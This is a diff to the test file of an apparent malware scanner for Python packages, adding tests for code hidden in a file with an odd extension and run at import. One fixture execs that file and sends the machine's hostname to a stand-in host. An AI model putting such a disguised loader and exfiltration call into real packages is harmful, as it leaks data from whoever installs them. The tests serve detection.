@@ -1,7 +1,7 @@
 import { deflateSync } from 'node:zlib';
-import { expect, test } from 'vitest';
+import { describe, expect, test } from 'vitest';
 import { carriedCode } from '../../../src/analysis/detectors/carried-code.ts';
-import { inspect, python, wheel } from '../../support/inspect.ts';
+import { analysePacked, inspect, python, wheel } from '../../support/inspect.ts';
 import { findingsOf } from './carriers.ts';
 import { png } from './machine-code.ts';
 
@@ -49,4 +49,31 @@ test('bytecode in a file of words is hidden at import, a script that is read as 
 
   expect(await inspect('carried-code', hidden)).toMatchObject([{ class: 'malware', score: 10 }]);
   expect(await inspect('carried-code', plain)).toEqual([]);
+});
+
+describe('code in a file with an ending of its own', () => {
+  const running = python(
+    'import os',
+    "path = os.path.join(os.path.dirname(__file__), 'rules.sage')",
+    'with open(path) as f:',
+    "    exec(compile(f.read(), path, 'exec'), globals())",
+  );
+
+  test('that can be read as it lies there is read, and nothing is said of the file', async () => {
+    const file = wheel({ 'pkg/__init__.py': running, 'pkg/rules.sage': python('import math', 'X = math.pi') });
+
+    expect((await analysePacked(file)).findings).toEqual([]);
+  });
+
+  test('is found by what it does', async () => {
+    const file = wheel({
+      'pkg/__init__.py': running,
+      'pkg/rules.sage': python(
+        'import socket, urllib.request',
+        "urllib.request.urlopen('https://collect.tools.invalid/?h=' + socket.gethostname())",
+      ),
+    });
+
+    expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', context: 'import' }]);
+  });
 });
